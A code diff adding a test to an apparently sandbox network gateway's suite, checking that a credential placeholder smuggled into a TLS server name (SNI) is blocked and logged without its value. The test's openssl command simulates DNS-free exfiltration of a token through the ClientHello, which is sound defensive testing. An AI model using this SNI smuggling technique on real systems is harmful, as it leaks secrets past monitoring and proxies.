@@ -450,3 +450,39 @@ def test_tap_links_get_the_same_rules(sandbox):
             os.close(fd)
         subprocess.run([VMLAUNCH_BIN, "net", "remove-link", tap, "100.98.0.2"], capture_output=True)
         subprocess.run([VMLAUNCH_BIN, "net", "del-link", tap], capture_output=True)
+
+
+def test_a_placeholder_in_a_captured_tls_sni_is_blocked(tmp_path, dns, upstreams):
+    """A tool that ignores the proxy puts a placeholder in its TLS server name (DNS-free
+    exfiltration through the ClientHello): the captured connection is refused before any dial,
+    and the record names the credential and `sni`, never the value."""
+    dns.set("tls.test", [("A", "10.77.0.3", 60)])
+    secret = tmp_path / "token"
+    secret.write_text("ghs_" + os.urandom(20).hex() + "\n")
+    policy = SANDBOX_POLICY.replace(
+        "egress:\n", "egress:\n  - {id: api, hosts: [api.tls.test], inspect: true, "
+        "credentials: [github]}\n")
+    g = Gateway(str(tmp_path), dns, policies={"sb": policy}, extra_config=f"""credentials:
+  github:
+    source: static
+    file: {secret}
+    placeholder: {{env: GITHUB_TOKEN, prefix: ghp_}}
+    inject: [{{header: Authorization, value: "Bearer {{token}}"}}]
+""")
+    g.serve_links(proxy=False)
+    sb = None
+    try:
+        ph = g.session("sb", source="100.96.0.2")["placeholders"]["GITHUB_TOKEN"]
+        sb = Sandbox()
+        n = len(upstreams["tls"].snis)
+        sb.run("openssl", "s_client", "-connect", "10.77.0.3:8443", "-servername",
+               f"{ph[4:]}.tls.test", input=b"")
+        rec = g.records(lambda x: any(y["event"] == "credential.leak_blocked" for y in x))
+        leaks = [x for x in rec if x["event"] == "credential.leak_blocked"]
+        assert leaks and leaks[0]["where"] == "sni" and leaks[0]["credential"] == "github", rec
+        assert upstreams["tls"].snis[n:] == [], "the connection was dialled"
+        assert ph[4:] not in open(g.audit).read()
+    finally:
+        if sb:
+            sb.close()
+        g.stop()
